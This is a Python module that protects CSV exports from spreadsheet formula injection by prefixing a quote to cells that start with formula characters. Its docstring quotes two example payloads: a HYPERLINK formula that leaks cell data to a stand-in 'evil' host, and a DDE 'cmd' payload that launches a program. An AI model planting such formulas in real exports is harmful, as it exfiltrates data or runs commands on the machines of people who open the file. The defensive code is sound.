"""CSV for spreadsheets: cells that a spreadsheet would run as a formula are neutralised.

A prospect's name such as `=HYPERLINK("http://evil/?"&A1,"Click")` or `+cmd|' /C calc'!A0`
would be evaluated by Excel, LibreOffice or Google Sheets when the download is opened. As
OWASP recommends (CSV injection), every text cell that starts with `=`, `+`, `-`, `@`, a tab or
a carriage return gets a leading single quote, which spreadsheets show as text; numbers are
left alone.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeWriter:
    """A csv.writer whose rows are neutralised cell by cell."""

    def __init__(self, file: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(file, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(value) for value in row])
